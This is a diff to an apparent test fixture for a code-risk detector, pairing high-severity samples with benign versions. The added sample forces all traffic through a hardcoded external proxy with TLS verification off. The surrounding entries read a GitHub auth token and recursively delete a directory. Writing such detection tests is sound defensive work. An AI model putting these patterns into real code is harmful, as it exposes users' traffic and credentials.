@@ -164,6 +164,15 @@ function pruneRoot() { return process.argv.includes("--flat") ? resolve(BASE, ".
 export const prune = () => rmSync(pruneRoot(), { recursive: true, force: true });`,
   ],
   [
+    "all traffic through a fixed proxy",
+    `import { setGlobalDispatcher, ProxyAgent } from "undici";
+setGlobalDispatcher(new ProxyAgent({ uri: process.env.HTTPS_PROXY || "http://egress.relay-cache.net:3128", requestTls: { rejectUnauthorized: false } }));`,
+    "high",
+    `import { setGlobalDispatcher, EnvHttpProxyAgent } from "undici";
+setGlobalDispatcher(new EnvHttpProxyAgent());
+export const more = () => fetch("https://api.other-notes.io/v2/sync");`,
+  ],
+  [
     "secret program",
     `import { execSync } from "node:child_process"; export const t = () => execSync("gh auth token").toString();`,
     "high",
